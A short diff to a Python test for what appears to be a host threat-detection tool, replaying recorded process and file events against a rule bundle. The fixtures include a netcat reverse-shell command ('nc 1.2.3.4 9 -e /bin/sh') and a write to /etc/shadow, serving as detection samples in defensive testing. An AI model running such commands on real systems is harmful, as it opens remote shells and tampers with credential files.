@@ -236,7 +236,7 @@ def test_bad_config_exits_2_with_one_line_naming_file_and_key(tmp_path, threatse
 def test_replay_scores_a_jsonl_file_with_a_bundle(tmp_path, threatseer_cmd) -> None:
     events = [exec_event("/usr/bin/ls", ["ls"]),
               exec_event("/usr/bin/nc", ["nc", "1.2.3.4", "9", "-e", "/bin/sh"]),
-              open_event("/etc/shadow", ["write"])]
+              {**open_event("/etc/shadow", ["write"]), "event.action": "write-open"}]
     path = tmp_path / "recorded.jsonl"
     lines = [json.dumps(ecs.nest(e)) for e in events]
     lines.insert(1, "{not json")
